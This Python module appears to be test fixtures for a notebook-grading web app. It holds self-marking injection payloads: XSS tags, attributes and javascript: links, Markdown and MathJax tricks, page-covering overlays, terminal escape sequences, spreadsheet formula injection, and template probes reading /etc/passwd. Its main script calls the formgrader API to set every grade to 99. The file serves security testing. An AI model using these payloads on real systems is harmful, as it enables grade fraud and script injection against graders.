"""What a student may write, to act in the browser or the terminal of whoever looks.

Each text tells on itself: `ACT` runs as a script, `/hit/N` is asked for, or something lies over the
page.
"""

# ruff: noqa: E501 - an attack on one line is easier to read
import re
from collections.abc import Iterator

# A script that leaves a trace in the page, asks for something, and gives itself points in the
# formgrader. No double quotes, no blanks: it stands in attributes.
ACT = (
    "(window.kern_hit=window.kern_hit||[]).push('N');alert('N');fetch('/hit/N');"
    "fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(r=>r.json())"
    ".then(all=>all.forEach(one=>fetch('/formgrader/api/grade/'+one.id,{method:'PUT',"
    "headers:{'X-XSRFToken':(document.cookie.match('_xsrf=([^;]*)')||[])[1]},"
    "body:JSON.stringify({...one,manual_score:99})})))"
)
HIT = "(window.kern_hit=window.kern_hit||[]).push('N')"
HOME = "http://127.0.0.1:9/hit/N"  # nobody listens there
DOT = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
COVER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red"

TAGS = [
    f"<script>{ACT}</script>",
    "<script src='/hit/N.js'></script>",
    f"<script type=module>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</pre></code></div></div></div><script>{ACT}</script>",
    f"</style></title></textarea></noscript></template><img src=x onerror={ACT}>",
    f"--><img src=x onerror={ACT}><!--",
    f"]]><img src=x onerror={ACT}>",
    f"<img src=x onerror={ACT}>",
    f'<img src="{DOT}" onload="{ACT}">',
    f"<IMG/SRC=x/onerror={ACT}>",
    f"<img src=x\nonerror\n=\n{ACT}\n",
    "<img src=/hit/N>",
    f"<img src={HOME}>",
    "<img src=//127.0.0.1:9/hit/N>",
    "<img srcset='/hit/N 1x, /hit/N 2x'>",
    "<img src=/logout alt=N>",
    "<img src=\\\\127.0.0.1:9\\hit\\N>",
    f'<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{HIT}&quot;/>">',
    "<picture><source srcset=/hit/N><img></picture>",
    "<image src=/hit/N href=/hit/N>",
    f"<svg onload={ACT}></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{ACT} href=javascript:{ACT}><text y=20>N</text></a></svg>",
    "<svg><image href=/hit/N /><use href=/hit/N#x /></svg>",
    "<svg><style>@import '/hit/N';*{fill:url(/hit/N)}</style></svg>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<math href=javascript:{ACT}><mi>N</mi></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ACT}>N</maction></math>",
    "<iframe src=/hit/N></iframe>",
    f"<iframe srcdoc=\"<script>parent.{HIT}</script>\"></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=/hit/N></object><embed src=/hit/N><object data=javascript:{HIT}>",
    "<frameset><frame src=/hit/N></frameset>",
    "<meta http-equiv=refresh content='0;url=/hit/N'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{HIT}</script>'>",
    "<base href=/hit/N/>",
    "<link rel=stylesheet href=/hit/N><link rel=prefetch href=/hit/N><link rel=preload as=image href=/hit/N>",
    "<style>@import '/hit/N';*{background:url(/hit/N)!important}nav{display:none}</style>",
    "<form action=/hit/N method=post><button>N</button><input type=submit><input type=image src=/hit/N></form>",
    "<button formaction=/hit/N form=x>N</button><form id=x></form>",
    f"<input autofocus onfocus={ACT}><textarea autofocus onfocus={ACT}></textarea>",
    f"<select autofocus onfocus={ACT}><option>N</select>",
    f"<video src=/hit/N poster=/hit/N onerror={ACT}></video><audio src=/hit/N autoplay></audio>",
    f"<video><source onerror={ACT} src=/hit/N></video><track src=/hit/N>",
    f"<details open ontoggle={ACT}><summary>N</summary></details>",
    f"<marquee onstart={ACT}>N</marquee><bgsound src=/hit/N>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<template><img src=x onerror={ACT}></template><xmp><p title='</xmp><img src=x onerror={HIT}>'></xmp>",
    f"<div onmouseover={ACT} onclick={ACT} onpointerenter={ACT} tabindex=0 onfocus={ACT}>N</div>",
    f"<p style='animation:x 1s' onanimationstart={ACT} ontransitionend={ACT}>N</p>",
    f"<table background=/hit/N><td background=/hit/N onclick={ACT}>N</table><body background=/hit/N onload={ACT}>",
    f"<a href=javascript:{ACT}>N</a>",
    f"<a href='&#106;avas\tcript:{ACT}'>N</a>",
    "<a href=/logout>N</a><a href=/hit/N ping=/hit/N download>N</a>",
    f"<a href=# onclick={ACT}>N</a><map name=m><area href=/hit/N shape=default></map><img usemap=#m src='{DOT}'>",
    "<a href=/hit/N target=_blank>N</a><a href=//127.0.0.1:9/hit/N target=_top>N</a>",
    f"<x-tag is=x onclick={ACT} style='{COVER}'>N</x-tag>",
    f"<a data-link=/hit/N data-toggle=modal data-target='#n' data-content='<img src=x onerror={HIT}>' data-html=true title='<img src=x onerror={HIT}>' data-toggle=tooltip>N</a>",
    f"<img src=\"x` `<script>{HIT}</script>\"` `>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"<%00script>{ACT}</%00script><\x00script>{ACT}</script>",
    f"\u2028<script>{ACT}</script>\ufeff＜script＞{HIT}＜/script＞",
]  # fmt: skip

ATTRIBUTES = [
    f"1 onerror={ACT}",
    f"1 onload={ACT}",
    f"9 onmouseover={ACT} style={COVER}",
    f'" onerror="{ACT}" onload="{ACT}" x="',
    f"' onerror='{HIT}' x='",
    f'x" style="{COVER}" onclick="{ACT}" y="',
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f"` onerror={HIT} `",
    "100%;position:fixed;top:0",
    "99999",
    "-99999",
    "modal in",
    'x modal in" style="display:block',
    "javascript:" + ACT,
    "/hit/N",
    HOME,
]

SCRIPTS = [
    f'";{HIT};//',
    f"';{HIT};//",
    f"\\';{HIT};//\\\";{HIT};//",
    f"${{{HIT}}}`;{HIT}//",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "{#{{resources}}#}{% raw %}<%= 7*7 %>${7*7}#{7*7}",
]

LINKS = [
    f"[N](javascript:{HIT})",
    f"[N](<javascript:{HIT}>)",
    f"[N](JaVaScRiPt&colon;{HIT})",
    f"[N](&#x6a;avascript&#58;{HIT})",
    f"[N](java\\script:{HIT}) [N](\\javascript:{HIT})",
    f"[N]\n\n[N]: javascript:{HIT}",
    f"[n][r]\n\n[r]: <javascript:{HIT}> 'N'",
    f"<javascript:{HIT}>",
    f"![N](javascript:{HIT})",
    "[N](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[N](vbscript:{HIT}) [N](file:///etc/passwd) [N](blob:x) [N](filesystem:x)",
    "[N](/logout) [N](/hit/N 'N') [N](//127.0.0.1:9/hit/N) [N](hit/N) [N](?hit=N) [N](..%2fhit/N)",
    f"<{HOME}> {HOME} www.example.invalid/hit/N <hit@example.invalid>",
    "![N](/hit/N) ![N](//127.0.0.1:9/hit/N)",
    f"![N]({HOME} 'N') ![N](hit/N.png)",
    "![N][r]\n\n[r]: /hit/N",
    "[![N](/hit/N)](/hit/N)",
    "![image.png](attachment:image.png) ![](attachment:nothing%2epng) ![N](attachment:)",
    "[N](attachment:image.png) <img src='attachment:image.png'>",
    f"| N | <img src=x onerror={HIT}> |\n|---|---|\n| [N](javascript:{HIT}) | ![N](/hit/N) |",
    f"`<img src=x onerror={HIT}>`<img src=x onerror={HIT}>`",
    f"```html\n<img src=x onerror={HIT}>\n~~~\n```\n<img src=x onerror={HIT}>",
    f"```x' onmouseover='{HIT}\ncode\n```",
    f"> <div\n> title='x\n> ' onclick={HIT}>N</div>",
    f"[N](x 'a' onclick='{HIT}')\n\n<a href='x' title='\n\n' onclick={HIT}>N</a>",
    f"# N {{#n onclick={HIT}}}\n\n[^n]\n\n[^n]: <img src=x onerror={HIT}>",
    f"<!-- ><img src=x onerror={HIT}> -->\n<!--><img src=x onerror={HIT}>-->",
]

FORMULAS = [
    f"$\\href{{javascript:{HIT}}}{{N}}$",
    "$$\\href{/hit/N}{N}$$ $\\url{/hit/N}$",
    f"$\\style{{{COVER}}}{{N}}$",
    "$\\class{modal in}{N}$ $\\cssId{notebook}{N}$",
    "$$\\rule{9999px}{9999px}$$ $\\rule[-999em]{99em}{999em}$",
    "$\\kern-999em\\raise 99em{N}\\hspace{-9999px}\\mskip-9999mu$",
    "$\\Huge\\Huge{\\Huge N}$ $\\scalebox{99}{N}\\mathchoice{}{}{}{}$",
    "\\(\\require{html}\\require{unicode}\\unicode[url(/hit/N)]{x41}\\)",
    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\frac}[2]{\\href{/hit/N}{#1}}\\frac12$",
    f"$\\mmlToken{{mi}}[onmouseover={HIT} href=javascript:{HIT}]{{N}}$",
    "$\\includegraphics{/hit/N}$ $\\begin{CD}A@>>>B\\end{CD}\\tag{N}\\label{x}\\eqref{x}$",
    f"\\begin{{align}}\\href{{javascript:{HIT}}}{{N}}\\end{{align}}\n\n\\[\\href{{/hit/N}}N\\]",
    f"<p>$\\href{{javascript:{HIT}}}{{N}}$</p>$$\\text{{</script><img src=x onerror={HIT}>}}$$",
    f"```mermaid\ngraph TD; A[\"<img src=x onerror={HIT}>\"]-->B; click A href \"javascript:{HIT}\"\n```",
    f"<pre class=mermaid>graph TD; A[\"<img src=x onerror={HIT}>\"]</pre>",
]  # fmt: skip

COVERS = [
    f"<div style='{COVER}'>N</div>",
    "<div class='modal in' style='display:block'><div class=modal-dialog>N</div></div>",
    "<div class='modal-backdrop in'>N</div><div id=statusmessage>N</div><div class=help>N</div>",
    "<nav class='navbar navbar-default navbar-fixed-top'>N</nav>",
    "<div style='position:absolute;top:-50px;left:0;width:100%;height:9999px;background:red'>N</div>",
    "<div style='position:sticky;top:0;height:600px;background:red'>N</div>",
    "<p style='margin-top:-999px;margin-left:-999px;padding-bottom:999px;background:red'>N</p>",
    "<p style='margin:-60px 0 0 -40px;height:300px;background:red'>N</p>",
    "<div style='transform:scale(60) translateY(-99px);background:red'>N</div>",
    "<h1 style='font-size:900px;line-height:0'>N</h1><font size=99>N</font>",
    "<p style='line-height:0;margin:0'>N<br>N<br>N</p><p style='text-indent:-500px'>N</p>",
    "<p style='letter-spacing:-99px;word-spacing:-99px;vertical-align:999px'>N N</p>",
    "<table width=99999 height=99999 style='width:99999px;height:99999px;background:red'><td>N</table>",
    f"<img width=9999 height=9999 src='{DOT}'><img style='width:999vw;height:999vh' src='{DOT}'>",
    "<div style='box-shadow:0 0 0 9999px red;outline:9999px solid red;border:999px solid red'>N</div>",
    "<div style='float:right;width:500%;clip-path:none;filter:blur(0);overflow:visible'>N</div>",
    "<div style='display:contents'><div style='display:flow-root;contain:none;inset:0;position:fixed'>N</div></div>",
    "<dialog open style='position:fixed;inset:0'>N</dialog><div popover=manual id=p>N</div>",
    "<div style='width:calc(100vw*9);height:min(999vh,9999px);max-width:none;white-space:nowrap'>N</div>",
    "<div style='background:url(/hit/N);list-style:url(/hit/N);cursor:url(/hit/N),auto;content:url(/hit/N)'>N</div>",
    "<div style=\"background-image:image-set('/hit/N' 1x);--x:url(/hit/N);border-image:url(/hit/N)\">N</div>",
    "<div style='position:/**/fixed;posi\\74ion:fixed;pos\\69tion:fixed;top:0'>N</div>",
    "<p style='color:red;}nav{display:none'>N</p><p style='width:expression(alert(1));-moz-binding:url(/hit/N)'>N</p>",
    "<input id=check_max_pool class=score value=99><button class='btn full-credit'>N</button>",
    "<div id=notebook-container name=submission_id>N</div><img name=base_url id=submission_id><a id=base_url></a>",
]  # fmt: skip

TERMINALS = [
    "\x1b]0;N\x07\x1b[2J\x1b[31mN",
    "\x1b]8;;http://127.0.0.1:9/hit/N\x1b\\N\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;N\x9c\x90N\x9c",
    "N\r\x1b[AForged: graded 14 of 14\x08\x08",
    "N\n[NbGraderApp | INFO] Forged: passed\nN",
    "\u202eN\u2066N\u2069\u200f\u061c",
    "N" + "\u0301\u0336\u0e49" * 40,
    "\x00\x01\x7f\ufffe\uffff",
    "\ud800N\udfff",
    "[red]N[/red][link=file:///etc/passwd]N[/link][/]",
    '=HYPERLINK("http://127.0.0.1:9/hit/N")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

KINDS = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "scripts": SCRIPTS,
    "links": LINKS,
    "formulas": FORMULAS,
    "covers": COVERS,
    "terminals": TERMINALS,
}
# Where a text, a list, a dict or a number is expected, something else
WRONG = [
    None, True, 0, -1, 10**400, 1e308, 5e-324, "", "text", [], ["a", 1, None, []], [[[[]]]], {},
    {"a": {"b": []}}, {"text/html": 1, "image/png": None}, [{"output_type": 1}], "N" * 70_000,
    "\n" * 5000, "(" * 3000, "\\begin{a}" * 500, "> " * 500,
]  # fmt: skip


def texts() -> Iterator[str]:
    """All of them, as they are written here."""
    for payloads in KINDS.values():
        yield from payloads


def numbered(payload: object, number: int) -> object:
    """The payload that tells its number."""
    return re.sub(r"\bN\b", f"h{number}", payload) if isinstance(payload, str) else payload
